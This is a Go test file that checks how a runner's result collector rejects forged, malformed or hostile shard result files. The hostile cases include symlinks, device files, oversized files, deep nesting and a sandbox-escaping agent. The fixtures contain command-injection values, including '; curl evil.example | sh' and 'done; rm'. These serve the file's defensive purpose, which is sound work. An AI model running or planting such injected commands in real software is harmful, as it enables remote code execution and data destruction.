package fleet

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"github.com/symphony-runner/symphony/runner/report"
	"github.com/symphony-runner/symphony/runner/schedule"
	"github.com/symphony-runner/symphony/tracker"
)

var withoutFile = cmpopts.IgnoreUnexported(Result{})

func TestTheCollectorReadsWhatTheShardsLeft(t *testing.T) {
	t.Parallel()
	exchange, p := t.TempDir(), samplePlan(4)
	for _, shard := range []int{3, 1} {
		work(t, exchange, p, shard)
	}
	mustOpenSlice(t, exchange, p, 4) // killed before it started anything
	results, refused := ReadResults(exchange, p)
	if len(results) != 3 || len(refused) != 0 {
		t.Fatalf("%d results, refused: %s", len(results), reasons(refused))
	}
	got := results[1]
	state := p.Shards[2].State.Clone()
	c := state.Claims["3a"]
	c.Phase, c.Due, c.Lease = schedule.Running, time.Time{}, now.Add(time.Hour)
	c.Owner = state.Self
	state.Claims["3a"] = c
	state.Exit("3a", schedule.Outcome{Class: schedule.Done, Thread: threadOf("3a"), Turns: 3, Usage: schedule.Usage{Input: 100, Output: 20}}, schedule.Policy{}, now)
	tick := sampleTick(state, "3a")
	tick.Spent = state.Tick
	state.Completed = nil
	want := Result{Owner: p.ShardOwner(3), Job: "903", State: state, Tick: tick}
	if diff := cmp.Diff(want, got, withoutFile); diff != "" {
		t.Error(diff)
	}
	if diff := cmp.Diff(Result{Owner: p.ShardOwner(4), Job: "904", State: p.Shards[3].State}, results[2], withoutFile); diff != "" {
		t.Error(diff)
	}
}

// seal makes the content of result.json of a shard whose state and whose file are spoiled.
func seal(t testing.TB, slice Slice, spoil func(*Result)) []byte {
	t.Helper()
	r := Result{Owner: slice.State.Self, State: slice.State.Clone()}
	spoil(&r)
	data, err := encodeResult(r)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func TestAResultAboutIssuesOfAnotherShardIsRefused(t *testing.T) {
	t.Parallel()
	p := samplePlan(3)
	for name, test := range map[string]struct {
		spoil func(*Result)
		want  string // empty: skipped
	}{
		"of another run":     {func(r *Result) { r.Owner.Run = "1699" }, ""},
		"of another attempt": {func(r *Result) { r.Owner.Attempt = 2 }, ""},
		"of another plan":    {func(r *Result) { r.Owner.Started++ }, ""},
		"of another shard":   {func(r *Result) { r.Owner.Shard = 1 }, "it is not that of shard 2"},
		"with another's claim": {func(r *Result) { r.State.Claims["1a"] = p.Shards[0].State.Claims["1a"] },
			`names issue "1a", which is not the shard's`},
		"with another's delivery":     {func(r *Result) { r.State.Deliver("1a", schedule.Delivery{Number: 1}) }, `names issue "1a"`},
		"with another's conversation": {func(r *Result) { r.State.Conversations = map[tracker.ID]schedule.Conversation{"3b": {Rounds: 1}} }, `names issue "3b"`},
		"with another's row":          {func(r *Result) { r.Tick.Rows = []report.Row{{ID: "1a"}} }, `a row of issue "1a"`},
		"with a row twice":            {func(r *Result) { r.Tick.Rows = []report.Row{{ID: "2a"}, {ID: "2a"}} }, `a row of issue "2a", which is not the shard's or comes twice`},
		"that parks another's issue":  {func(r *Result) { r.Tick.Parked = []tracker.ID{"1a"} }, `parked issue "1a"`},
		"with another's fault": {func(r *Result) {
			r.State.Faults = []schedule.Fault{{Kind: "hook", Before: p.Shards[0].State.Claims["1a"]}}
		},
			`a fault of issue "1a"`},
	} {
		exchange := t.TempDir()
		writeText(t, filepath.Join(exchange, resultsFolder, "result-2", resultName), string(seal(t, p.Shards[1], test.spoil)))
		results, refused := ReadResults(exchange, p)
		if len(results) != 0 {
			t.Errorf("%s: it counts", name)
		}
		if test.want == "" && len(refused) != 0 || test.want != "" && (len(refused) != 1 || !errors.Is(refused[0].Err, ErrRefused) || !strings.Contains(reasons(refused), test.want)) {
			t.Errorf("%s: refused %s\nwant %s", name, reasons(refused), test.want)
		}
	}
}

func TestAMalformedResultIsRefused(t *testing.T) {
	t.Parallel()
	p := samplePlan(1)
	full := string(seal(t, p.Shards[0], func(r *Result) {
		r.Job = "9001"
		r.Tick = sampleTick(r.State, "1a")
		r.Tick.Rows[0].Kept = report.Kept{Folder: "logs/1a", Commands: []string{"git fetch work.bundle refs/heads/out:refs/heads/symphony/ABC-1a", "git apply --index work.patch"}}
		r.State.Tick = schedule.Spent{Sessions: 1, Time: time.Second}
		r.State.Faults = []schedule.Fault{{Kind: "hook", Why: "exit 1", Before: r.State.Claims["1a"]}}
	}))
	for _, test := range []struct{ old, new, want string }{
		{`"schema": 1`, `"schema": 7`, "need the same version"},
		{`"job": "9001"`, `"job": "9001", "token": "x"`, `unknown field "token"`},
		{`"job": "9001"`, `"job": "90\u001b[2J"`, "the id of its job"},
		{`ABC-1a`, `ABC-1z`, "does not match its checksum"},
		{`"id": "1a"`, `"id": "1a", "command": "sh"`, `unknown field "command"`},
		{`"class": "done"`, `"class": "done; rm"`, `rows["1a"].class: it is too long or not plain text`},
		{`"status": "Succeeded"`, `"status": "\u202e"`, `rows["1a"].status: it is too long or not plain text`},
		{`"phase": "waiting"`, `"phase": "<b>"`, `rows["1a"].next.phase: it is too long or not plain text`},
		{`"reason": "not_due"`, `"reason": "a b"`, `rows["1a"].next.reason: it is too long or not plain text`},
		{`"turns": 3`, `"turns": -3`, `rows["1a"].turns: it is negative`},
		{`"turns": 3`, `"turns": 2147483648`, `rows["1a"].turns: it is too large`},
		{`"took_ns": 1500000000`, `"took_ns": 9223372036854775807`, `rows["1a"].took_ns: it is too large`},
		{`"input": 100`, `"input": 9223372036854775807`, `rows["1a"].usage.input: it is too large`},
		{`"due": "2026-11-22T16:00:00Z"`, `"due": "2026-11-22T16:00:00+02:00"`, `rows["1a"].next.due: the time is not in UTC`},
		{`"title": "Fix <it> & more"`, `"title": "Fix\u0000"`, `rows["1a"].title: it is too long or not plain text`},
		{`"title": "Fix <it> & more"`, `"title": "` + strings.Repeat("é", maxTitle+1) + `"`, `rows["1a"].title: it is too long or not plain text`},
		{`"folder": "logs/1a"`, `"folder": "logs/1a\n"`, `rows["1a"].kept.folder: it is too long or not plain text`},
		{`"git apply --index work.patch"`, `"git apply --index work.patch; curl evil.example | sh"`, "a command is not one of this program"},
		{`"after_run failed"`, `"two\nlines"`, "warnings: an entry is too long or not plain text"},
		{`"after_run failed"`, `"` + strings.Repeat(`","`, maxNotes) + `"`, "warnings: 101 entries are more than the 100 allowed"},
		{`"sessions": 1,
   "time_ns"`, `"sessions": -1,
   "time_ns"`, "spent.sessions: it is negative"},
		{`"kind": "hook"`, `"kind": "ho\u0007ok"`, `faults["1a"].kind: it is too long or not plain text`},
		{`"stored": "{`, `"stored": "[`, "not a state"},
	} {
		exchange := t.TempDir()
		text := strings.Replace(full, test.old, test.new, 1)
		if text == full {
			t.Fatalf("%s is not in %s", test.old, full)
		}
		writeText(t, filepath.Join(exchange, resultsFolder, "result-1", resultName), text)
		results, refused := ReadResults(exchange, p)
		if len(results) != 0 || len(refused) != 1 || !errors.Is(refused[0].Err, ErrUnreadable) || !strings.Contains(reasons(refused), test.want) {
			t.Errorf("%s -> %.60s:\n %d results, refused %s\nwant %s", test.old, test.new, len(results), reasons(refused), test.want)
		}
	}
}

// An agent that escapes from its sandbox can put anything into the folder of its shard.
func TestAHostileFolderOfAShardDoesNotHarmOtherShards(t *testing.T) {
	t.Parallel()
	p := samplePlan(2)
	for name, raid := range map[string]func(t *testing.T, exchange, shard string) error{
		"a link to the result of another": func(t *testing.T, exchange, shard string) error {
			return os.Symlink("../result-1/result.json", filepath.Join(shard, resultName))
		},
		"a link in the place of the folder": func(t *testing.T, exchange, shard string) error {
			return errors.Join(os.Remove(shard), os.Symlink("result-1", shard))
		},
		"a file in the place of the folder": func(t *testing.T, exchange, shard string) error {
			return errors.Join(os.Remove(shard), os.WriteFile(shard, nil, 0o600))
		},
		"a pipe": func(t *testing.T, exchange, shard string) error {
			return syscall.Mkfifo(filepath.Join(shard, resultName), 0o600)
		},
		"a device": func(t *testing.T, exchange, shard string) error {
			return os.Symlink("/dev/zero", filepath.Join(shard, resultName))
		},
		"a folder in the place of the file": func(t *testing.T, exchange, shard string) error {
			return os.Mkdir(filepath.Join(shard, resultName), 0o700)
		},
		"a file of a terabyte": func(t *testing.T, exchange, shard string) error {
			return errors.Join(os.WriteFile(filepath.Join(shard, resultName), nil, 0o600), os.Truncate(filepath.Join(shard, resultName), 1<<40))
		},
		"a deeply nested value": func(t *testing.T, exchange, shard string) error {
			return os.WriteFile(filepath.Join(shard, resultName), []byte(strings.Repeat("[", 1<<20)), 0o600)
		},
		"many files and deep folders": func(t *testing.T, exchange, shard string) error {
			deep := shard
			for range 100 {
				deep = filepath.Join(deep, "result-1")
			}
			err := os.MkdirAll(deep, 0o700)
			for i := range 1000 { // which are not even listed
				err = errors.Join(err, os.WriteFile(filepath.Join(shard, fmt.Sprint(i)), nil, 0o600))
			}
			writeText(t, filepath.Join(shard, resultName), "{}")
			return err
		},
		"results of others below it": func(t *testing.T, exchange, shard string) error {
			forged := seal(t, p.Shards[0], func(r *Result) { r.saved = 99 })
			for _, folder := range []string{"result-1", artifactName(p.ShardOwner(1)), "."} {
				writeText(t, filepath.Join(shard, folder, resultName), string(forged))
			}
			return nil
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			exchange := t.TempDir()
			work(t, exchange, p, 1)
			shard := filepath.Join(exchange, resultsFolder, "result-2")
			err := os.Mkdir(shard, 0o700)
			if err == nil {
				err = raid(t, exchange, shard)
			}
			if err != nil {
				t.Fatal(err)
			}
			results, refused := ReadResults(exchange, p)
			if len(results) != 1 || results[0].Owner.Shard != 1 || results[0].Tick.Rows == nil {
				t.Errorf("%d results", len(results))
			}
			if len(refused) != 1 {
				t.Errorf("refused: %s", reasons(refused))
			}
		})
	}
}

func TestOfSeveralResultsOfAShardTheLastOneCounts(t *testing.T) {
	t.Parallel()
	p := samplePlan(1)
	title := func(title string) func(r *Result) {
		return func(r *Result) {
			c := r.State.Claims["1a"]
			c.Title = title
			r.State.Claims["1a"] = c
			r.saved = 3
		}
	}
	first, second, last := seal(t, p.Shards[0], title("first")), seal(t, p.Shards[0], title("second")), seal(t, p.Shards[0], func(r *Result) { title("last")(r); r.saved = 4 })
	for name, test := range map[string]struct {
		alone, artifact []byte
		want            string
	}{
		"alone":            {first, nil, "first"},
		"in an artifact":   {nil, first, "first"},
		"copies":           {first, first, "first"},
		"the last first":   {last, first, "last"},
		"the last second":  {first, last, "last"},
		"equally often":    {first, second, ""},
		"one is damaged":   {[]byte("{"), last, "last"},
		"of other attempt": {seal(t, p.Shards[0], func(r *Result) { r.Owner.Attempt, r.saved = 2, 9 }), last, "last"},
	} {
		exchange := t.TempDir()
		for folder, data := range map[string][]byte{"result-1": test.alone, artifactName(p.ShardOwner(1)) + "/result-1": test.artifact} {
			if data != nil {
				writeText(t, filepath.Join(exchange, resultsFolder, folder, resultName), string(data))
			}
		}
		results, refused := ReadResults(exchange, p)
		got := ""
		if len(results) == 1 {
			got = results[0].State.Claims["1a"].Title
		}
		if got != test.want || (test.want == "") != errors.Is(errors.Join(slices.Collect(errorsOf(refused))...), ErrRefused) {
			t.Errorf("%s: %d results, %q, refused %s", name, len(results), got, reasons(refused))
		}
	}
}

func errorsOf(refused []Refused) func(func(error) bool) {
	return func(yield func(error) bool) {
		for _, r := range refused {
			if !yield(r.Err) {
				return
			}
		}
	}
}

func TestAnExchangeFolderWithoutResultsHasNone(t *testing.T) {
	t.Parallel()
	for _, exchange := range []string{t.TempDir(), filepath.Join(t.TempDir(), "missing")} {
		if results, refused := ReadResults(exchange, samplePlan(2)); len(results)+len(refused) != 0 {
			t.Errorf("%d results, refused %s", len(results), reasons(refused))
		}
	}
}
